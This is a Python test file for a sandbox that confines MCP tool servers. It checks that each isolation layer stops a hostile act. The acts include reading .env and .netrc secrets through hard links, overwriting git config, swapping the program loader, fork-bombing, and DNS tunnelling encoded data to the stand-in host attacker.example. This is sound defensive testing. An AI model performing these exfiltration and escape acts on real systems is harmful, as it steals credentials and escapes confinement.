"""Each layer is seen: with it an act is refused, and without it the same act does its harm.

tests/victims/without.py is mcpwrap with layers taken out.
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import sys
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.e2e.client import SessionEnded, failed, text
from tests.e2e.test_shutdown import descendants, left
from tests.e2e.test_victims_network import Host
from tests.e2e.victim import SECRET, Victim

pytestmark = pytest.mark.needs("user", "userns", "landlock", "seccomp")

WITHOUT = Path(__file__).resolve().parents[1] / "victims" / "without.py"
MEMORY_LIMIT = 256 << 20
NOT_GRANTED = "/etc/hostname"
Act = Callable[[Victim], bool]
"""Tries to do harm, and tells whether it did."""


def reads_a_second_file(victim: Victim) -> bool:
    directory = victim.case("second")
    answer = victim.act("reader", "read", {"path": str(directory / "a.txt")}, path=str(directory / "b.txt"))
    return SECRET in text(answer)


def reads_after_its_call_is_over(victim: Victim) -> bool:
    path, result = str(victim.case("later") / "b.txt"), f"{victim.temporary}/late"
    victim.act("reader", "detach_later", {"path": path}, path=path, result=result, delay=0.3)
    return SECRET in text(victim.act("nothing", "await_file", path=result, seconds=5))


def reads_a_dotenv(victim: Victim) -> bool:
    directory = victim.case("dotenv")
    answer = victim.act("reader", "read", {"path": str(directory)}, path=str(directory / ".env"))
    return SECRET in text(answer)


def writes_git_config(victim: Victim) -> bool:
    directory = victim.case("config")
    file = directory / "r" / ".git" / "config"
    victim.act("writer", "write", {"path": str(directory / "r")}, path=str(file))
    return file.read_text() == "owned"


def reads_a_private_file_by_a_hard_link(victim: Victim) -> bool:
    directory = victim.case("inode")
    os.link(victim.place.work / "home" / ".netrc", directory / "r" / "innocent")
    answer = victim.act(
        "reader", "read", {"path": str(directory / "r")}, path=str(directory / "r" / "innocent")
    )
    return SECRET in text(answer)


def moves_a_directory_that_holds_git(victim: Victim) -> bool:
    directory = victim.case("moved") / "r"
    acts = {"directory": str(directory / "sub"), "aside": str(directory / "s2"), "inside": ".git/x"}
    return not failed(
        victim.act(
            "writer", "rename", {"path": str(directory)}, source=acts["directory"], destination=acts["aside"]
        )
    )


def sees_a_file_nobody_granted(victim: Victim) -> bool:
    return not failed(victim.act("nothing", "stat", path=NOT_GRANTED))


def reads_a_file_nobody_granted(victim: Victim) -> bool:
    return not failed(victim.act("nothing", "read", path=NOT_GRANTED))


def makes_a_link_out_of_its_directory(victim: Victim) -> bool:
    directory = victim.case("link") / "r"
    acts = {"target": str(victim.place.work / "out" / "secret.txt"), "path": str(directory / "ln")}
    victim.act("writer", "symlink", {"path": str(directory)}, **acts)
    return (directory / "ln").is_symlink()


def runs_the_loader_in_the_place_of_a_program(victim: Victim) -> bool:
    try:
        return "coreutils" in text(victim.act("nothing", "execute_by_swapped_loader", marker="coreutils"))
    except SessionEnded:
        return False


def reads_pid_ones_environment(victim: Victim) -> bool:
    return not failed(victim.act("nothing", "read", path="/proc/1/status"))


def makes_a_keyring(victim: Victim) -> bool:
    return not failed(victim.act("nothing", "key"))


def connects_to_the_host(victim: Victim) -> bool:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(3)

        def answer() -> None:
            try:
                peer, _ = listener.accept()
            except TimeoutError:
                return
            with peer:
                peer.sendall(SECRET.encode())

        thread = threading.Thread(target=answer)
        thread.start()
        host, port = listener.getsockname()
        said = text(victim.act("nothing", "connect_tcp", host=host, port=port))
        thread.join()
    return SECRET in said


def talks_to(victim: Victim, tool: str, act: str, **acts: object) -> bool:
    host = Host()
    try:
        said = text(victim.act(tool, act, host="127.0.0.1", port=host.port, **acts))
        if act == "connect_later":
            said = text(victim.act("nothing", "await_file", path=acts["path"], seconds=5))
        return SECRET in said
    finally:
        host.close()


def connects_to_a_host_that_another_tool_was_granted(victim: Victim) -> bool:
    return talks_to(victim, "nothing", "connect_tcp")


def connects_when_its_call_is_over(victim: Victim) -> bool:
    return talks_to(victim, "caller", "connect_later", path="/tmp/late-net", delay=0.4)


def tells_a_name_server_something(victim: Victim) -> bool:
    return not failed(victim.act("nothing", "tunnel_by_name", name="c2VjcmV0.attacker.example", kind=1))


def connects_to_a_socket_in_a_directory_it_may_read(victim: Victim) -> bool:
    directory = victim.case("socket")
    here = os.getcwd()
    with socket.socket(socket.AF_UNIX) as listener:
        os.chdir(directory / "r")
        listener.bind("s")
        os.chdir(here)
        listener.listen()
        listener.settimeout(1)
        victim.act(
            "reader",
            "connect_unix_relative",
            {"path": str(directory / "r")},
            directory=str(directory / "r"),
            name="s",
        )
        try:
            listener.accept()[0].close()
        except TimeoutError:
            return False
    return True


def runs_a_program_nobody_granted(victim: Victim) -> bool:
    return not failed(victim.act("nothing", "execute", argv=["/usr/bin/id"]))


def runs_a_program_it_wrote(victim: Victim) -> bool:
    program = shutil.which("cat")
    return not failed(
        victim.act("nothing", "execute_copy", program=program, place=f"{victim.temporary}/evil")
    )


def forks_without_end(victim: Victim) -> bool:
    return int(text(victim.act("nothing", "bomb_forks", limit=700)).split()[0]) > 600


def holds_more_memory_than_its_limit(victim: Victim) -> bool:
    try:
        return not failed(victim.act("nothing", "hold_shared_memory", size=4 * MEMORY_LIMIT, seconds=3))
    except SessionEnded:
        return False


def outlives_the_launcher(victim: Victim) -> bool:
    victim.act("nothing", "stay")
    victim.act("nothing", "leave_daemon")
    tree = descendants(victim.session.process.pid)
    os.kill(victim.session.process.pid, signal.SIGKILL)
    alive = left(tree, 3)
    for pid, _ in alive:
        os.kill(pid, signal.SIGKILL)
    return bool(alive)


OF_THE_NETWORK = (
    connects_to_a_host_that_another_tool_was_granted,
    connects_when_its_call_is_over,
    tells_a_name_server_something,
)
"""Acts of a server that is granted some of the network."""


def run(layers: str, act: Act, lacking: str = "", *more: str) -> bool:
    launcher = [sys.executable, "-I", "-B", str(WITHOUT), layers]
    name = f"layer-{layers or 'all'}-{act.__name__}{'-c' if lacking else ''}".replace(" ", "-").replace(
        ",", "+"
    )
    setup = "echo SECRET-B > home/.netrc; echo x > home/.profile"
    grant = "victim_network" if act in OF_THE_NETWORK else "victim"
    options = ["--limit-memory", str(MEMORY_LIMIT)] if act is holds_more_memory_than_its_limit else []
    options += more
    with Victim(
        name, launcher=launcher, options=options, setup=setup, grant=grant, lacking=lacking
    ) as victim:
        return act(victim)


SEEN = [
    ("broker", reads_a_second_file),
    ("windows", reads_after_its_call_is_over),
    ("private", reads_a_dotenv),
    ("protected", writes_git_config),
    ("inodes", reads_a_private_file_by_a_hard_link),
    ("tree walk", moves_a_directory_that_holds_git),
    ("view", sees_a_file_nobody_granted),
    ("view,broker,landlock", reads_a_file_nobody_granted),
    ("links", makes_a_link_out_of_its_directory),
    ("verification", runs_the_loader_in_the_place_of_a_program),
    ("procfs", reads_pid_ones_environment),
    ("system calls", makes_a_keyring),
    ("network", connects_to_the_host),
    ("hosts", connects_to_a_host_that_another_tool_was_granted),
    ("hosts", connects_when_its_call_is_over),
    ("names", tells_a_name_server_something),
    ("path sockets", connects_to_a_socket_in_a_directory_it_may_read),
    ("limits", forks_without_end),
    ("memory", holds_more_memory_than_its_limit),
    ("life", outlives_the_launcher),
    ("exec gate,landlock", runs_a_program_nobody_granted),
    ("exec gate,landlock,noexec", runs_a_program_it_wrote),
]
SECOND = [
    # One of two layers that hold the same: alone it is enough.
    ("windows", connects_when_its_call_is_over),
    ("view,broker", reads_a_file_nobody_granted),
    ("view,landlock", reads_a_file_nobody_granted),
    ("broker,landlock", reads_a_file_nobody_granted),
    ("exec gate", runs_a_program_nobody_granted),
    ("landlock", runs_a_program_nobody_granted),
    ("exec gate,landlock", runs_a_program_it_wrote),
    ("exec gate,noexec", runs_a_program_it_wrote),
    ("landlock,noexec", runs_a_program_it_wrote),
]


@pytest.mark.parametrize(
    ("layers", "act"), SEEN, ids=lambda value: value if isinstance(value, str) else value.__name__
)
def test_without_a_layer_an_act_that_was_refused_does_its_harm(layers: str, act: Act) -> None:
    assert not run("", act), "refused with all layers"
    assert run(layers, act), f"nothing sees that {layers} is gone"


@pytest.mark.parametrize(
    ("layers", "act"), SECOND, ids=lambda value: value if isinstance(value, str) else value.__name__
)
def test_where_two_layers_hold_the_same_one_is_enough(layers: str, act: Act) -> None:
    assert not run(layers, act)


def test_without_a_pid_namespace_of_its_own_nothing_starts() -> None:
    # Its procfs is the kernel's proof: who has none may mount none.
    with pytest.raises(SessionEnded, match="procfs"):
        run("processes", reads_a_second_file, "", "--require", "B")
